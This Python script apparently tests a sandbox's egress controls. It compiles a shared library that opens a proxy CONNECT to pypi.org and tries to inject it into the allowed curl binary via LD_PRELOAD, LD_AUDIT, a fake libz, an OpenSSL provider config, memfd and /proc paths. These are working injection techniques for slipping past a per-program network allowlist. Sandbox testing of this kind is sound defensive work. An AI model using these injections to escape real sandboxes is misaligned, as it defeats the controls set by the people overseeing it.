"""Brings a library of its own into an allowed program; the library asks the proxy, so that its word counts as curl's."""
import json, os, shutil, subprocess

SOURCE = r"""
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
extern char **environ;
__attribute__((constructor)) static void ask(void) {
    for (char **e = environ; ERASE && e && *e; e++) memset(*e, 'x', strlen(*e));
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(3128) };
    inet_pton(AF_INET, "10.200.0.1", &to.sin_addr);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    const char *text = "CONNECT pypi.org:443 HTTP/1.1\r\nHost: pypi.org:443\r\n\r\n";
    char answer[200] = { 0 };
    if (connect(s, (struct sockaddr *)&to, sizeof to) == 0 && write(s, text, strlen(text)) > 0) read(s, answer, 199);
    const char *word = strstr(answer, " 200") ? "open" : answer[0] ? "denied" : "silent";
    write(1, word, strlen(word));
    _exit(0);
}
"""

if not shutil.which("gcc", path="/usr/bin"):
    print(json.dumps({"skipped": "there is no gcc"}))
    raise SystemExit

def build(name, erase, *options, extra=""):
    done = subprocess.run(["/usr/bin/gcc", "-shared", "-fPIC", f"-DERASE={erase}", "-x", "c", "-", "-o", name, *options],
                          input=SOURCE + extra, text=True, capture_output=True, env={"PATH": "/usr/bin:/bin"})
    assert done.returncode == 0, done.stderr

def symbols(library):
    """Empty functions under the names that the real library has, so that the loader is content with ours."""
    done = subprocess.run(["nm", "-D", "--defined-only", library], capture_output=True, text=True)
    names = {line.split()[2].split("@")[0] for line in done.stdout.splitlines() if line.split()[1] == "T"}
    return "".join(f"void {name}(void) {{}}\n" for name in sorted(names))

def curl(program="/usr/bin/curl", **variables):
    done = subprocess.run([program, "-sS", "-o", "/dev/null", "https://pypi.org/"], capture_output=True, text=True,
                          timeout=30, env={**os.environ, **variables})
    return done.stdout or "not loaded"

build("/sandbox/evil.so", 0)
build("/sandbox/erasing.so", 1)
os.mkdir("/sandbox/lib")
build("/sandbox/lib/libz.so.1", 0, "-Wl,-soname,libz.so.1", extra=symbols("/lib/x86_64-linux-gnu/libz.so.1"))
with open("/sandbox/openssl.cnf", "w") as file:
    file.write("openssl_conf = a\n[a]\nproviders = b\n[b]\nevil = c\n[c]\nmodule = /sandbox/erasing.so\nactivate = 1\n")
memory = os.memfd_create("evil", 0)
os.write(memory, open("/sandbox/erasing.so", "rb").read())
os.set_inheritable(memory, True)

nothing = subprocess.run(["/usr/bin/curl", "-sS", "-o", "/dev/null", "https://pypi.org/"], timeout=30).returncode
loaded = {
    "preloaded": curl(LD_PRELOAD="/sandbox/evil.so"),
    "preloaded, environment erased": curl(LD_PRELOAD="/sandbox/erasing.so"),
    "preloaded through /proc": curl(LD_PRELOAD="/proc/self/cwd/erasing.so"),
    "preloaded from memory": subprocess.run(
        ["/usr/bin/curl", "-sS", "-o", "/dev/null", "https://pypi.org/"], capture_output=True, text=True, timeout=30,
        pass_fds=[memory], env={**os.environ, "LD_PRELOAD": f"/proc/self/fd/{memory}"}).stdout or "not loaded",
    "audit library": curl(LD_AUDIT="/sandbox/evil.so"),
    "audit library, environment erased": curl(LD_AUDIT="/sandbox/erasing.so"),
    "library path": curl(LD_LIBRARY_PATH="/sandbox/lib"),
    "OpenSSL configuration": curl(OPENSSL_CONF="/sandbox/openssl.cnf"),
}
# The same program where the sandbox could write, if it were not mounted read-only.
loaded["into a mounted program"] = curl("/sandbox/mounted", LD_PRELOAD="/sandbox/erasing.so")
mounted = subprocess.run(["/sandbox/mounted", "-sS", "-o", "/dev/null", "https://pypi.org/"], timeout=30).returncode
# The place in a directory with a trusted name does not help.
os.makedirs("/sandbox/usr/lib")
shutil.copy("/sandbox/erasing.so", "/sandbox/usr/lib/libc.so.6")
loaded["with the name of a system library"] = curl(LD_PRELOAD="/sandbox/usr/lib/libc.so.6")
# Nothing is shown by an attack that did not come to its end.
tried = {attack: word for attack, word in loaded.items() if word != "not loaded"}
print(json.dumps({"nothing": "open" if nothing == mounted == 0 else "denied", "attacks": tried, "not loaded":
    [attack for attack in loaded if attack not in tried]}))
